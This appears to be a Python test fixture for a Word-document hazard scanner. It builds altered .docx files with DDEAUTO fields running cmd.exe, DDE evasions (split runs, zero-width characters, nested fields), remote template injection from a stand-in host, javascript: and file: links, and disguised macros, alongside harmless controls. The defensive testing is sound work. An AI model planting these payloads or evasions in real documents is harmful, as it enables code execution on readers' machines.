"""Documents that do something behind the reader's back: a sound one after one change of its parts."""

from __future__ import annotations

import re
from dataclasses import dataclass
from typing import TYPE_CHECKING

from odd_drawing import parts_of, zipped

if TYPE_CHECKING:
    from collections.abc import Callable

Parts = dict[str, bytes]
MAIN, RELATIONS, TYPES = "word/document.xml", "word/_rels/document.xml.rels", "[Content_Types].xml"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
SPACES = (
    f'xmlns:r="{OFFICE}" xmlns:o="urn:schemas-microsoft-com:office:office" '
    'xmlns:v="urn:schemas-microsoft-com:vml"'
)


def attacked(data: bytes, change: Callable[[Parts], None]) -> bytes:
    """Return a document after a change of its parts."""
    parts = parts_of(data)
    change(parts)
    return zipped(parts)


def char(turn: str) -> str:
    """Return the run that begins, separates or ends a field."""
    return f'<w:r><w:fldChar w:fldCharType="{turn}"/></w:r>'


def code(*pieces: str, word: str = "instrText") -> str:
    """Return runs with pieces of a field's code."""
    return "".join(f'<w:r><w:{word} xml:space="preserve">{piece}</w:{word}></w:r>' for piece in pieces)


def field(*inner: str) -> str:
    """Return a field of these runs, with a result."""
    return f"{char('begin')}{''.join(inner)}{char('separate')}<w:r><w:t>果</w:t></w:r>{char('end')}"


def in_text(xml: str, story: str = MAIN) -> Callable[[Parts], None]:
    """Return a change that puts runs into a paragraph of their own before the first of a story."""

    def change(parts: Parts) -> None:
        name = next(one for one in sorted(parts) if re.fullmatch(story, one))
        parts[name] = parts[name].replace(b"<w:p>", f"<w:p {SPACES}>{xml}</w:p><w:p>".encode(), 1)
        assert xml.encode() in parts[name]

    return change


def among_paragraphs(xml: str) -> Callable[[Parts], None]:
    """Return a change that puts an element between the paragraphs of the text."""

    def change(parts: Parts) -> None:
        parts[MAIN] = parts[MAIN].replace(b"<w:p>", f"{xml}<w:p>".encode(), 1)

    return change


def related(
    sort: str, target: str, mode: str = ' TargetMode="External"', owner: str = RELATIONS, id_: str = "rIdX"
) -> Callable[[Parts], None]:
    """Return a change that gives a part one more relationship."""

    def change(parts: Parts) -> None:
        kind = sort if "://" in sort else f"{OFFICE}/{sort}"
        line = f'<Relationship Id="{id_}" Type="{kind}" Target="{target}"{mode}/>'
        empty = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
        before = parts.get(owner, empty)
        parts[owner] = before.replace(b"</Relationships>", f"{line}</Relationships>".encode())

    return change


def added(name: str, content: bytes = b"\xd0\xcf\x11\xe0", kind: str = "") -> Callable[[Parts], None]:
    """Return a change that adds a part, and says its type."""

    def change(parts: Parts) -> None:
        parts[name] = content
        if kind:
            entry = f'<Override PartName="/{name}" ContentType="{kind}"/></Types>'
            parts[TYPES] = parts[TYPES].replace(b"</Types>", entry.encode())

    return change


def together(*changes: Callable[[Parts], None]) -> Callable[[Parts], None]:
    """Return several changes as one."""

    def change(parts: Parts) -> None:
        for each in changes:
            each(parts)

    return change


@dataclass(frozen=True)
class Attack:
    """A change, what kind of hazard it makes, and words that name it."""

    change: Callable[[Parts], None]
    kind: str
    said: str


def _settings(xml: str) -> Callable[[Parts], None]:
    def change(parts: Parts) -> None:
        parts["word/settings.xml"] = parts["word/settings.xml"].replace(
            b"</w:settings>", f"{xml}</w:settings>".encode()
        )

    return change


FTR = r"word/footer\d\.xml"
EXTENSIBILITY = "http://schemas.microsoft.com/office/2007/relationships/ui/extensibility"
VBA = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
MACRO = "application/vnd.ms-office.vbaProject"
INNER = ""  # a relationship to a part
ATTACKS = {
    "DDEAUTO": Attack(
        in_text(field(code(' DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" '))), "fetch", "DDEAUTO"
    ),
    "DDE split over runs": Attack(in_text(field(code(" D", "D", 'E "Excel" "表" '))), "fetch", "域 DDE"),
    "dde in small letters": Attack(in_text(field(code(" ddeAuto x "))), "fetch", "DDEAUTO"),
    "DDE with unseen characters": Attack(in_text(field(code(" D\u200bDE x"))), "fetch", "域 DDE"),
    "DDE as text where a code belongs": Attack(
        in_text(f"{char('begin')}<w:r><w:t> DDE x</w:t></w:r>{char('separate')}{char('end')}"),
        "fetch",
        "域 DDE",
    ),
    "DDE in a simple field": Attack(
        in_text('<w:fldSimple w:instr=" DDE x y "><w:r><w:t>果</w:t></w:r></w:fldSimple>'), "fetch", "域 DDE"
    ),
    "DDE inside another field": Attack(
        in_text(field(code(' IF 1 = 1 "'), field(code(" DDE x ")), code('" "" '))), "fetch", "域 DDE"
    ),
    "DDE never closed": Attack(in_text(char("begin") + code(" DDE x ")), "fetch", "域 DDE"),
    "DDE deleted, not gone": Attack(in_text(field(code(" DDE x ", word="delInstrText"))), "fetch", "域 DDE"),
    "a code put together by fields": Attack(
        in_text(field(field(code(" QUOTE 68 68 69 ")), code(" x y"))), "fetch", "由别的域拼成"
    ),
    "half a keyword from a field": Attack(
        in_text(field(code("DD"), field(code(" QUOTE 69 ")), code(" x y"))), "fetch", "由别的域拼成"
    ),
    "INCLUDETEXT": Attack(
        in_text(field(code(' INCLUDETEXT "\\\\\\\\srv\\\\a.docx" '))), "fetch", "INCLUDETEXT"
    ),
    "INCLUDEPICTURE in a footer": Attack(
        in_text(field(code(' INCLUDEPICTURE "http://a.example/x.png" \\d ')), FTR), "fetch", "INCLUDEPICTURE"
    ),
    "LINK": Attack(in_text(field(code(" LINK Excel.Sheet.12 c:\\\\a.xlsx "))), "fetch", "LINK"),
    "DATABASE": Attack(in_text(field(code(' DATABASE \\d "a.mdb" '))), "fetch", "DATABASE"),
    "MACROBUTTON": Attack(in_text(field(code(" MACROBUTTON Run 点这里 "))), "fetch", "MACROBUTTON"),
    "a javascript link": Attack(related("hyperlink", "javascript:alert(1)"), "link", "javascript:"),
    "a javascript link in disguise": Attack(
        related("hyperlink", " java&#9;script:alert(1)"), "link", "的链接"
    ),
    "a file link": Attack(related("hyperlink", "file:///c:/a.exe"), "link", "file:"),
    "a link to a neighbouring file": Attack(related("hyperlink", "..\\a.exe"), "link", "a.exe"),
    "a link to a share": Attack(related("hyperlink", "\\\\srv\\a", mode=""), "link", "srv"),
    "a link as a field": Attack(
        in_text(field(code(' HYPERLINK \\t "_blank" "javascript:x" '))), "link", "javascript"
    ),
    "a link of a drawing": Attack(
        in_text('<w:r><w:pict><v:rect href="file://srv/a.exe"/></w:pict></w:r>'), "link", "srv"
    ),
    "a macro": Attack(
        together(related(VBA, "vbaProject.bin", INNER), added("word/vbaProject.bin", kind=MACRO)),
        "code",
        "有宏",
    ),
    "a macro under another name": Attack(added("word/picture.png", kind=MACRO), "code", "有宏"),
    "a macro that nothing leads to": Attack(added("word/VBAProject.bin"), "code", "有宏"),
    "a .docm under another name": Attack(
        lambda parts: parts.update(
            {
                TYPES: parts[TYPES].replace(
                    b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                    b"application/vnd.ms-word.document.macroEnabled.main+xml",
                )
            }
        ),
        "code",
        "有宏",
    ),
    "a ribbon with callbacks": Attack(
        together(
            related(EXTENSIBILITY, "customUI/a.xml", INNER, "_rels/.rels"),
            added("customUI/a.xml", b"<customUI/>"),
        ),
        "code",
        "功能区",
    ),
    "an ActiveX control": Attack(
        together(
            related("control", "activeX/activeX1.xml", INNER),
            added("word/activeX/activeX1.xml", b"<ax/>"),
            in_text('<w:r><w:object><w:control r:id="rIdX"/></w:object></w:r>'),
        ),
        "code",
        "ActiveX",
    ),
    "an OLE object": Attack(
        together(
            related("oleObject", "embeddings/oleObject1.bin", INNER),
            added("word/embeddings/oleObject1.bin"),
            in_text('<w:r><w:object><o:OLEObject Type="Embed" r:id="rIdX"/></w:object></w:r>'),
        ),
        "embedded",
        "OLE",
    ),
    "an OLE object elsewhere": Attack(related("oleObject", "file:///c:/a.xlsx"), "fetch", "别处"),
    "an embedded workbook": Attack(
        together(related("package", "embeddings/a.xlsx", INNER), added("word/embeddings/a.xlsx")),
        "embedded",
        "别的文件",
    ),
    "an embedded file that nothing leads to": Attack(added("word/embeddings/a.bin"), "embedded", "别的文件"),
    "altChunk": Attack(
        together(
            related("aFChunk", "a.html", INNER),
            added("word/a.html", b"<p>x</p>"),
            among_paragraphs(f'<w:altChunk {SPACES} r:id="rIdX"/>'),
        ),
        "embedded",
        "altChunk",
    ),
    "altChunk alone": Attack(
        among_paragraphs(f'<w:altChunk {SPACES} r:id="rId99"/>'), "embedded", "altChunk"
    ),
    "a subdocument": Attack(related("subDocument", "file:///c:/a.docx"), "fetch", "别处"),
    "a remote picture": Attack(related("image", "http://a.example/x.png"), "fetch", "图片"),
    "a remote picture that hides it": Attack(
        related("image", "https://a.example/x.png", INNER), "fetch", "图片"
    ),
    "a remote part of a header": Attack(
        related("image", "http://a.example/x.png", owner="word/_rels/footer1.xml.rels"), "fetch", "图片"
    ),
    "a remote template": Attack(
        related("attachedTemplate", "http://a.example/t.dotm", owner="word/_rels/settings.xml.rels"),
        "fetch",
        "模板",
    ),
    "a template on a share": Attack(
        related("attachedTemplate", "file://srv/t.dotm", owner="word/_rels/settings.xml.rels"),
        "fetch",
        "模板",
    ),
    "a mail merge": Attack(
        _settings('<w:mailMerge><w:mainDocumentType w:val="formLetters"/></w:mailMerge>'), "fetch", "邮件合并"
    ),
    "a tracked insertion": Attack(
        in_text('<w:ins w:id="1" w:author="甲"><w:r><w:t>增</w:t></w:r></w:ins>'), "changes", "共1处"
    ),
    "a tracked format": Attack(
        in_text(
            '<w:r><w:rPr><w:rPrChange w:id="1" w:author="甲"><w:rPr/></w:rPrChange></w:rPr>'
            "<w:t>字</w:t></w:r>"
        ),
        "changes",
        "修订",
    ),
    "a blank in a tracked deletion": Attack(
        in_text(
            '<w:del w:id="1" w:author="甲"><w:r><w:delText>{{ 单</w:delText></w:r>'
            "<w:r><w:delText>位 }}</w:delText></w:r></w:del>"
        ),
        "changes",
        "还有标签",
    ),
    "a comment": Attack(in_text('<w:r><w:commentReference w:id="0"/></w:r>'), "comments", "批注"),
}

HARMLESS = {
    "a page number": in_text(field(code(" PA", "GE "))),
    "a date": in_text('<w:fldSimple w:instr=" DATE "><w:r><w:t>今</w:t></w:r></w:fldSimple>'),
    "arithmetic with a page number": in_text(field(code(" = "), field(code(" PAGE ")), code(" - 1 "))),
    "a place in the document": in_text(field(code(' HYPERLINK \\l "题" '))),
    "a web site as a field": in_text(field(code(' HYPERLINK "https://a.example/" \\o "提示" '))),
    "a web site": related("hyperlink", "http://a.example/"),
    "a mail address": related("hyperlink", "MAILTO:a@a.example"),
    "words about DDE": in_text("<w:r><w:t>关于 DDEAUTO 的说明</w:t></w:r>"),
    "a picture of its own": together(
        related("image", "media/a.png", INNER), added("word/media/a.png", b"\x89PNG")
    ),
}
